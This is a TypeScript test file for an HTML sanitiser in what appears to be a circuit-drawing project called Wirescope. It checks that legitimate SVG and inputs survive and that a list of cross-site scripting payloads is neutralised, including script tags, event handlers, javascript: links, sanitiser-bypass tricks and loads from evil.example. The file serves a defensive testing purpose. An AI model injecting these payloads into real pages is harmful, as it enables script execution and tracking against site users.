import assert from "node:assert/strict";
import { test } from "node:test";
import { sanitised } from "../src/sanitise";

test("what Wirescope's page consists of stays", () => {
  const body = '<main><section class="inputs"><h2>Circuit</h2><svg id="drawing" viewBox="0 0 9 9"><path class="edge t" data-e="0" d="M0 0"/>' +
    '<text x="1">a&lt;b</text></svg><img alt="a" src="data:image/png;base64,AAAA"><input type="range" min="1"></section></main>';
  const made = sanitised(`<html><head><style>x</style></head><body>${body}</body></html>`);
  for (const part of ['viewBox="0 0 9 9"', 'data-e="0"', "a&#60;b", "data:image/png;base64,AAAA", 'type="range"', "</svg>", "</main>"]) {
    assert.ok(made.includes(part), `${part} in ${made}`);
  }
});

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT src=//evil.example/x.js></SCRIPT>",
  '<script type="application/json" id="wirescope-circuit">{}</script>',
  "<script>never ended alert(1)",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png">',
  '<img src="data:image/svg+xml;base64,AAAA">',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload="alert(1)"><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<rect fill="url(https://evil.example/#a)"/>',
  '<form action="https://evil.example"><button formaction="https://evil.example">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example"><link rel="stylesheet" href="//evil.example">',
  '<p title="a><script>alert(1)</script>">x</p>',
  "<p/onclick=alert(1)>x",
  "<!--><script>alert(1)</script>-->",
  "<template><script>alert(1)</script></template>",
  "<style>@import 'https://evil.example'</style>",
  '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
];

test("nothing that could run or load gets through", () => {
  for (const html of HOSTILE) {
    const made = sanitised(`<body>${html}</body>`);
    const tags = [...made.matchAll(/<[^>]*>/g)].map(([tag]) => tag).join(" ");
    assert.doesNotMatch(tags, /<\/?(script|style|iframe|a|form|meta|base|link|use|foreignobject|math|template)[\s>]/i, html);
    assert.doesNotMatch(tags.replace(/"[^"]*"/g, '""'), /\son\w+|\s(href|style|srcset|action|formaction)=/i, html);
    assert.doesNotMatch(tags.replace(/ title="[^"]*"/g, ""), /evil|javascript/i, html);
    assert.doesNotMatch(made, /<script/i, html);
  }
});
